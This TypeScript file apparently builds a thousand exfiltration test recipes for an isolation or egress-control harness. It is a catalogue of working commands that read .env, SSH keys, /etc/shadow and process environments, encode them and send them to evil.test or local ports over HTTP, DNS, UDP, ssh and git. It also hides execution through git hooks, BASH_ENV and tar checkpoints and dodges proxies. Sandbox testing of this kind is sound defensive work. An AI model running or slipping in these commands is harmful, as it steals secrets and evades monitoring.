/**
 * A thousand ways to send a command's data: published classes of exfiltration, as channel, encoding, source and trigger.
 * Each is a command line of its own. Channels with `reaches` get through with a network: a test tries that too, so that a
 * recipe which never could leak does not count.
 */
import type { Recipe } from "./recipes.ts"

/** A program that sends `$D`. `{to}` is a host with its port, `{bare}` and `{port}` are its parts. */
interface Channel {
  readonly command: string
  /** Whether it goes straight to the address, so that it arrives where nothing isolates. */
  readonly reaches: boolean
}

const straight = [
  'curl -sm 3 "http://{to}/?d=$D"',
  'curl -sm 3 -d "$D" http://{to}/',
  'printf %s "$D" | curl -sm 3 -T - http://{to}/',
  'printf %s "$D" | curl -sm 3 -F f=@- http://{to}/',
  'curl -sm 3 -H "x-d: $D" http://{to}/',
  'curl -sm 3 -A "$D" http://{to}/',
  'curl -sm 3 -b "d=$D" http://{to}/',
  'curl -sm 3 -e "$D" http://{to}/',
  "curl -sm 3 --noproxy '*' \"http://{to}/$D\"",
  'curl -sm 3 -X REPORT "http://{to}/" --data-binary "$D"',
  'printf "url=http://{to}/?d=%s\\n" "$D" | curl -sm 3 -K -',
  'curl -sm 3 "gopher://{bare}:{port}/_$D"',
  'curl -sm 3 "dict://{bare}:{port}/d:$D"',
  'printf %s "$D" | timeout 1 curl -s "telnet://{bare}:{port}"',
  'wget -qT 3 -t 1 -O- "http://{to}/?d=$D"',
  'wget -qT 3 -t 1 -O- --post-data="$D" http://{to}/',
  'wget -qT 3 -t 1 -O- --no-proxy --header="x-d: $D" http://{to}/',
  'wget -qT 3 -t 1 -O- --user-agent="$D" http://{to}/',
  'timeout 3 busybox wget -Y off -q -O- "http://{to}/?d=$D"',
  'printf "%s\\n" "$D" | busybox nc -w 1 {bare} {port}',
  'printf "%s\\n" "$D" | timeout 1 busybox telnet {bare} {port}',
  'exec 3<>/dev/tcp/{bare}/{port}; printf "%s\\n" "$D" >&3; sleep 0.05',
  'printf "POST / HTTP/1.0\\r\\n\\r\\n%s" "$D" > /dev/tcp/{bare}/{port}',
  'printf %s "$D" | socat -u - TCP:{bare}:{port},connect-timeout=2',
  'D="$D" node -e \'fetch("http://{to}/", { method: "POST", body: process.env.D }).catch(() => 0)\'',
  'D="$D" node -e \'require("http").request({ host: "{bare}", port: {port}, headers: { d: process.env.D } }).on("error", () => 0).end()\'',
  'D="$D" node -e \'require("net").connect({port}, "{bare}").on("error", () => 0).end(process.env.D)\'',
  'D="$D" node -e \'require("http").get("http://{to}/" + encodeURIComponent(process.env.D)).on("error", () => 0)\'',
  'D="$D" python3 -c \'import os, urllib.request as r; r.urlopen("http://{to}/", os.environ["D"].encode(), 3)\'',
  'D="$D" python3 -c \'import os, http.client as h; c = h.HTTPConnection("{bare}", {port}, timeout=3); c.request("PUT", "/", os.environ["D"])\'',
  'D="$D" python3 -c \'import os, socket; socket.create_connection(("{bare}", {port}), 3).send(os.environ["D"].encode())\'',
  'D="$D" perl -MIO::Socket::INET -e \'my $s = IO::Socket::INET->new(PeerAddr => "{bare}:{port}", Timeout => 2) or exit; print $s $ENV{D}\'',
  'D="$D" perl -MHTTP::Tiny -e \'HTTP::Tiny->new(timeout => 3)->post("http://{to}/", { content => $ENV{D} })\'',
  'D="$D" perl -MIO::Socket::IP -e \'my $s = IO::Socket::IP->new(PeerHost => "{bare}", PeerPort => {port}, Timeout => 2) or exit; print $s $ENV{D}\'',
  'git -c http.lowSpeedTime=2 ls-remote "http://{to}/$D"',
  'git -c http.extraHeader="x-d: $D" ls-remote http://{to}/x',
  'git -c http.userAgent="$D" ls-remote http://{to}/x',
  'git ls-remote "git://{bare}:{port}/$D"',
  'git -c protocol.ext.allow=always ls-remote "ext::curl -sm 3 http://{to}/$D"',
  'git archive --remote="git://{bare}:{port}/$D" HEAD'
]

const indirect = [
  'curl -sm 3 -x "$http_proxy" "http://{to}/?d=$D"',
  'curl -sm 3 -px "$http_proxy" -d "$D" http://{to}/',
  'curl -sm 3 -d "$D" "$EGRESS_URL/http://{to}/"',
  "curl -sm 3 -H 'x-d: {{secret:KEY}}' \"$EGRESS_URL/http://{to}/?d=$D\"",
  'curl -sm 3 -H "x-d: {{secret:KEY}}" -d "$D" "$EGRESS_URL/http://{allowed}@{to}/"',
  'curl -sm 3 -x "$http_proxy" -H "host: {allowed}" "http://{to}/?d=$D"',
  'curl -sm 3 --connect-to "{allowed}:{to}" -x "$http_proxy" -d "$D" http://{to}/',
  'curl -sm 3 --resolve "{allowed}:{bare}" --noproxy "*" -d "$D" http://{to}/',
  'curl -sm 3 -x "socks5h://127.0.0.1:3128" "http://{to}/?d=$D"',
  'printf "GET http://{to}/%s HTTP/1.1\\r\\nHost: {allowed}\\r\\n\\r\\n" "$D" > /dev/tcp/127.0.0.1/3128',
  'printf "CONNECT {to} HTTP/1.1\\r\\nHost: {allowed}\\r\\nX-D: %s\\r\\n\\r\\n" "$D" > /dev/tcp/127.0.0.1/3128',
  'printf %s "$D" | timeout 1 socat - "PROXY:127.0.0.1:{bare}:{port},proxyport=3128"',
  'getent hosts "${D:0:60}.evil.test"',
  'curl -sm 3 --noproxy "*" "http://${D:0:60}.evil.test/"',
  'python3 -c \'import os, socket; socket.gethostbyname(os.environ["D"][:60] + ".evil.test")\'',
  'D="$D" node -e \'const r = new (require("dns").Resolver)({ timeout: 500, tries: 1 }); r.setServers(["127.0.0.1:{udp}"]); r.resolve4(process.env.D.slice(0, 60) + ".evil.test", () => 0)\'',
  'timeout 1 busybox nslookup "${D:0:60}.evil.test" {bare}',
  'printf %s "$D" > /dev/udp/{bare}/{udp}',
  'printf %s "$D" | socat -u - UDP:{bare}:{udp}',
  'printf %s "$D" | timeout 1 openssl s_client -dtls1_2 -connect {bare}:{udp}',
  'D="$D" node -e \'require("dgram").createSocket("udp4").send(process.env.D, {udp}, "{bare}", () => process.exit())\'',
  'D="$D" python3 -c \'import os, socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["D"].encode(), ("{bare}", {udp}))\'',
  'timeout 1 busybox tftp -p -l .env -r "${D:0:40}" {bare} {udp}',
  'timeout 1 busybox ping -c 1 -p "$(printf %s "$D" | xxd -p | head -c 16)" {bare}',
  'printf "Q\\n" | timeout 1 openssl s_client -quiet -servername "${D:0:60}" -connect {bare}:{port}',
  'curl -skm 3 -d "$D" https://{to}/',
  'timeout 1 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {port} "x@{bare}" "$D"',
  'timeout 1 ssh -o BatchMode=yes -o ProxyCommand="curl -sm 2 http://{to}/$D" x@evil',
  "timeout 1 scp -o BatchMode=yes -P {port} .env x@{bare}:/tmp/",
  'git push "http://{to}/$D" HEAD:refs/heads/x',
  'python3 -c \'import socket; s = socket.socket(socket.AF_UNIX); s.connect("{outside}/listener"); s.send(open(".env", "rb").read())\'',
  'printf %s "$D" | timeout 1 socat -u - UNIX-CONNECT:{outside}/listener',
  'printf %s "$D" | timeout 1 socat -u - ABSTRACT-CONNECT:{abstract}',
  'printf %s "$D" | timeout 1 socat -u - VSOCK-CONNECT:2:{port}',
  'printf %s "$D" > {outside}/left; printf %s "$D" > ../left',
  'printf %s "$D" > /proc/sys/kernel/hostname; printf %s "$D" > /dev/kmsg',
  'wall "$D"; logger -n {bare} -P {udp} "$D"; printf %s "$D" > /dev/tty'
]

const channels: ReadonlyArray<Channel> = [
  ...straight.map((command) => ({ command, reaches: true })),
  ...indirect.map((command) => ({ command, reaches: false }))
]

/** The sent data: each has the folder's own file. */
const sources = [
  "cat .env",
  "cat .env {outside}/secret.txt",
  "cat .env /proc/{pid}/environ",
  "cat .env; env",
  "cat .env ~/.ssh/* {home}/.ssh/* {home}/.netrc {home}/.git-credentials",
  "git show HEAD:.env; cat /etc/shadow",
  "cat .env /proc/[0-9]*/environ /proc/[0-9]*/cmdline",
  "cat .env; echo {{secret:KEY}}"
]

/** Each gives one line that has the whole of a canary in it. */
export const encodings: ReadonlyArray<readonly [command: string, decode: (text: string) => string]> = [
  ["tr -d '\\0\\n '", (text) => text],
  ["base64 -w 0", (text) => Buffer.from(text, "base64").toString("latin1")],
  ["xxd -p | tr -d '\\n'", (text) => Buffer.from(text, "hex").toString("latin1")],
  ["od -An -v -tx1 | tr -d ' \\n'", (text) => Buffer.from(text, "hex").toString("latin1")],
  ["tr -d '\\0\\n ' | rev", (text) => [...text].toReversed().join("")],
  [
    "tr -d '\\0\\n ' | tr A-Za-z N-ZA-Mn-za-m",
    (text) =>
      text.replaceAll(/[a-z]/gi, (one) => String.fromCharCode(one.charCodeAt(0) + (one.toLowerCase() < "n" ? 13 : -13)))
  ],
  ["base64 -w 0 | tr '+/' '-_'", (text) => Buffer.from(text, "base64url").toString("latin1")],
  ["xxd -p | tr -d '\\n' | tr a-f A-F", (text) => Buffer.from(text, "hex").toString("latin1")]
]

/** Ways of programs to run `$C` without a word of it in the command line of the shell. */
const triggers = [
  'bash -c "$C"',
  'eval "$C"',
  'printf %s "$C" | bash',
  'printf %s "$C" | base64 | base64 -d | bash',
  'bash <(printf %s "$C")',
  'setsid -w bash -c "$C"',
  'nohup bash -c "$C" & wait',
  'env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY -u NO_PROXY -u no_proxy bash -c "$C"',
  'BASH_ENV=<(printf %s "$C") bash -c :',
  'trap "$C" EXIT; true',
  'find . -maxdepth 0 -exec bash -c "$C" ";"',
  'printf x | xargs -I_ bash -c "$C"',
  'awk \'BEGIN { system("bash -c \\"$C\\"") }\'',
  "sed -n '1e bash -c \"$C\"' .env",
  'tar cf /dev/null .env --checkpoint=1 --checkpoint-action=exec="bash -c \\"\\$C\\""',
  'perl -e \'exec "bash", "-c", $ENV{C}\'',
  'python3 -c \'import os; os.execlp("bash", "bash", "-c", os.environ["C"])\'',
  'node -e \'require("child_process").spawnSync("bash", ["-c", process.env.C])\'',
  "git -c alias.x='!bash -c \"$C\"' x",
  "GIT_SSH_COMMAND='bash -c \"$C\"; :' git ls-remote ssh://host/x",
  "git -c core.sshCommand='bash -c \"$C\"; :' ls-remote ssh://host/x",
  "git -c core.fsmonitor='bash -c \"$C\"; :' status",
  "H=$(mktemp -d); printf '#!/bin/bash\\neval \"$C\"\\n' > $H/post-checkout; chmod +x $H/post-checkout; git -c core.hooksPath=$H checkout -q HEAD -- .env; git -c core.hooksPath=$H checkout -q --detach",
  "M=$(mktemp); printf 'x:\\n\\t@bash -c \"$$C\"\\n' > $M; make -sf $M x"
]

const addresses = ["evil.test:{port}", "127.0.0.1:{port}", "[::1]:{port}", "{host}:{port}", "0.0.0.0:{port}"]

const quote = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`

const at = <A>(list: ReadonlyArray<A>, index: number): A => {
  const found = list[index % list.length]
  if (found === undefined) throw new Error("an empty list")
  return found
}

const make = (channel: string, source: string, encoding: string, trigger: string, to: string): string => {
  const bare = to.replace(/:\{port\}$/, "").replaceAll(/[[\]]/g, "")
  const filled = channel.replaceAll("{to}", to).replaceAll("{bare}", bare)
  return `export D="$({ ${source}; } 2>/dev/null | head -c 2000 | ${encoding})" C=${quote(filled)}; ${trigger}`
}

/** A thousand different command lines. Each channel, source, encoding, trigger and address is in many of them. */
export const leaks: ReadonlyArray<Recipe> = [
  ...new Set(
    Array.from({ length: 1_100 }, (_, index) => {
      const round = Math.floor(index / channels.length)
      return make(
        at(channels, index).command,
        at(sources, index + round),
        at(encodings, index + 3 * round)[0],
        at(triggers, index + 5 * round),
        at(addresses, index + round)
      )
    })
  )
]
  .slice(0, 1_000)
  .map((command, index) => ({ name: `leak ${index}`, command }))

/** The channels and triggers that get through with a network. */
export const controls: ReadonlyArray<string> = [
  ...channels
    .filter(({ reaches }) => reaches)
    .map(({ command }, index) =>
      make(command, "cat .env", at(encodings, index)[0], 'bash -c "$C"', "127.0.0.1:{port}")
    ),
  ...triggers.map((trigger, index) =>
    make("curl -sm 3 http://{to}/?d=$D", "cat .env", at(encodings, index)[0], trigger, "127.0.0.1:{port}")
  )
]
